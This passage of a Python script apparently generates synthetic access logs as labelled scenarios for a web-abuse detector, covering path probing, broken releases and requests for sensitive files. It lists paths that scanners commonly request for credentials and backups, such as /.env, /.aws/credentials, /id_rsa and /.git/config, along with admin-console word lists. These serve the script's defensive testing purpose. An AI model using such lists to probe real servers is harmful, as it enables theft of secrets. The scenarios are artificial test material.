    log.add(at(3, 40), "198.51.100.4", "/search?q=169.254.169.254", 200, 8_800)
    for n, path in enumerate([
        "/v1/previews?url=https%3A%2F%2Fwww.example.com%2F169.254.169.254.html", "/search?q=union+of+students", "/search?q=o%27brien+or+smith",
        "/search?q=sleep+mask", "/c/scripts", "/v1/products?select=id,name&order=price", "/blog/javascript-alerts", "/search?q=rock+%26+roll+%3C3",
        "/docs/etc/passwords.html", "/v1/files/report..final.pdf", "/search?q=%2250%25+off%22",
    ]):
        log.add(at(3, 41 + n), "198.51.100.4", path, 200, 2_100)
    log.write("api8/attack-strings", "nothing-answered")


# --- api8/probing ---

WORDS = ["admin", "console", "manager/html", "phpmyadmin/index.php", "old", "test", "v0/users", "internal/metrics", "debug/vars",
         "solr/admin", "jenkins/script", "cgi-bin/luci", "api/swagger.json", "graphql/console"]


def word_list():
    log = Log(61)
    for n, word in enumerate(WORDS):
        log.add(at(13, 5) + n * 40, "192.0.2.200", f"/{word}", 403 if n % 5 == 4 else 404, 150, agent="Mozilla/5.0 zgrab/0.x")
    residents(log, [13])
    log.write("api8/probing", "word-list")


def broken_release():
    log = Log(62)
    chunks = [f"/static/{name}.7d1e.js" for name in ["app", "vendor", "cart", "search", "account", "orders", "help", "map", "lists", "intl"]]
    for n in range(60):
        start = at(14) + log.rng.random() * 3_000
        for chunk in chunks:
            log.add(start + log.rng.random(), f"198.51.100.{n + 1}", chunk, 404, 150, agent=log.rng.choice(BROWSERS))
    log.write("api8/probing", "broken-release")

def broken_release_is_over():
    """Its last visitors come when the half hour is over."""
    log = Log(76)
    names = [f"/static/{name}.7d1e.js" for name in ["app", "vendor", "cart", "search", "account", "orders", "help", "map"]] + ["/v3/lists", "/v3/intl"]
    for visitor, time in [(n + 1, at(13) + n * 59) for n in range(30)] + [(40, at(13, 30)), (41, at(15, 1))]:
        for nth, path in enumerate(names):
            log.add(time + nth * 0.04, f"198.51.100.{visitor}", path, 404, 150)
    log.write("api8/probing", "broken-release-is-over")


def deleted_items():
    log = Log(63)
    log.sweep(at(15), 3_000, "203.0.113.4", [f"/v1/products/{n}" for n in log.rng.sample(range(10_000), 90)], status=404, agent=APP)
    log.write("api8/probing", "deleted-items")


def expired_session():
    log = Log(64)
    for name in ["me", "cart", "orders", "favourites", "messages", "notifications", "addresses", "payments", "settings", "reviews"]:
        log.add(at(16, 1) + log.rng.random(), "203.0.113.6", f"/v1/{name}", 401, 60)
    log.write("api8/probing", "expired-session")


# --- api8/sensitive-files ---

SECRETS = ["/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/backup.zip", "/dump.sql", "/.aws/credentials", "/id_rsa",
           "/actuator/heapdump", "/phpinfo.php", "/app/.env.production", "/db.sql.gz", "/dump-2026-03-01.tar.gz"]


def served_secrets():
    log = Log(71)
    sizes = {"/.env": 1_148, "/.git/config": 262, "/actuator/heapdump": 48_201_774, "/dump-2026-03-01.tar.gz": 903_118}
    for n, path in enumerate(SECRETS):
        log.add(at(7) + n * 3, "192.0.2.200", path, 200 if path in sizes else 404, sizes.get(path, 150), agent="curl/8.5.0")
    log.add(at(7, 1), "198.51.100.3", "/.env", 200, 1_148)
    log.add(at(7, 2), "203.0.113.2", "/", 200, 9_800)
    log.write("api8/sensitive-files", "served-secrets")


def single_page_app():
    log = Log(72)
    for n, path in enumerate(SECRETS):
        log.add(at(7) + n * 600, "192.0.2.200", path, 200, 3_172)
        log.add(at(7) + n * 600 + 100, "203.0.113.2", "/", 200, 3_172)
    for n, path in enumerate(SECRETS[:7]):
        log.add(at(12) + n * 3, "192.0.2.201", path, 200, 2_048)
    log.write("api8/sensitive-files", "page-for-every-name")


def refused_secrets():
    log = Log(73)
    for n, path in enumerate(SECRETS[:7]):
        log.add(at(7) + n * 3, "192.0.2.200", path, 404 if n % 2 else 403, 150)
    log.add(at(7, 5), "192.0.2.10", "/actuator/health", 200, 15, agent="kube-probe/1.31")
    for n, path in enumerate(["/docs/environment.html", "/blog/backup-strategies", "/blog/phpinfo-explained", "/talks/slides.key",
                              "/sitemap.xml.gz", "/.well-known/security.txt", "/.github/pull_request_template.md"]):
        log.add(at(7, 6) + n, "203.0.113.2", path, 200, 5_000 + n)
    log.write("api8/sensitive-files", "refused")


for make in [
    ids_anywhere, lookups_with_few_hits, office_at_nine, declared_crawler, gallery,
    id_every_25_seconds, bulk, list_views, photo_sync, small_catalogue, dashboard, nightly_partner,
    first_hour_of_the_log, sync_of_photos, pages_and_objects, films, dashboard_and_lists,
    uuid_every_40_seconds, health_probe_and_poller, polite_crawler, evening_of_reading, office_day,
    profiles_above_the_norm, guesses_by_post, pace_raised_by_half, bulk_is_usual_here, same_hour_as_yesterday, office_on_its_first_day,
    hundred_addresses, rush_of_visitors, product_in_the_news,
    an_address_for_each_account, all_at_once_after_a_failure, tracked_parcels,
    counts_past_a_canary, beside_the_canaries,
    more_than_agreed, key_wanders, as_agreed,
    old_version_found, in_use_yesterday,
    page_after_page, staff_turns_pages,
    list_of_passwords, spraying, guessed_in_the_end, stale_password, office_signs_in, device_code,
    key_is_sold, people_on_the_move,
    more_fields, texts_of_all_lengths,
    tries_the_name, as_always,
    some_answered, nothing_answered,
    word_list, broken_release, broken_release_is_over, deleted_items, expired_session,
    served_secrets, single_page_app, refused_secrets,
]:
    make()
# (the same of a route of which nothing is said would be quiet, then loud)
checkouts("buys-it-all", "192.0.2.200", 80, [CHROME])
checkouts("office-orders-lunch", "192.0.2.100", 25, BROWSERS)
worth("wallets-are-worth-more", "wallets", 6)
worth("cards-are-worth-little", "cards", 1)
